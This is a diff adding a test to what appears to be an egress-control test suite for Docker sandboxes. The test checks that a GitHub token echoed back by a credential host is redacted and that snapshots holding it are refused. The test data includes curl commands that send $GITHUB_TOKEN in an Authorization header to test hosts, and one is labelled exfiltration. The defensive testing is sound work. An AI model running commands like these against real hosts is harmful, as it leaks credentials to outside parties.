@@ -116,6 +116,19 @@ describeNetns('egress on docker sandboxes (allowlist, credentials)', () => {
     expect(refused.map((e) => e.host)).toEqual(expect.arrayContaining(['evil.egress.test', apiIp, '169.254.169.254']));
   });
 
+  it('a credential host that echoes the real value back: the output shows it redacted, and a snapshot of a sandbox that kept it is refused, naming the credential, never the value', async () => {
+    const r = await run('echoed', 'curl -sS https://api.egress.test/echo-authorization -H "Authorization: Bearer $GITHUB_TOKEN" | tee /workspace/echoed; echo "placeholder $GITHUB_TOKEN"');
+    expect(r.stdout).not.toContain(GH_VALUE);
+    expect(r.stdout.split('\n')[0]).toBe('Bearer [REDACTED]');
+    // The placeholder is redacted too (berth prints neither).
+    expect(r.stdout.split('\n')[1]).toBe('placeholder [REDACTED]');
+    const err = await broker.session({ profile: 'bot', session: 'echoed' }).snapshots.create({ name: 'with-echo' }).then(() => undefined, (e: unknown) => e);
+    expect((err as { code?: string } | undefined)?.code).toBe('policy_refused');
+    expect((err as Error).message).toContain('/workspace/echoed holds the value of granted variable GITHUB_TOKEN');
+    expect((err as Error).message).not.toContain(GH_VALUE);
+    expect(broker.snapshots.list('local', { profile: 'bot', session: 'echoed' })).toEqual([]);
+  });
+
   it('the placeholder sent to another allowed host is refused as exfiltration', async () => {
     const before = seen.length;
     const r = await run('s3', 'curl -sS http://other.egress.test/x -H "Authorization: Bearer $GITHUB_TOKEN"; echo "exit $?"');
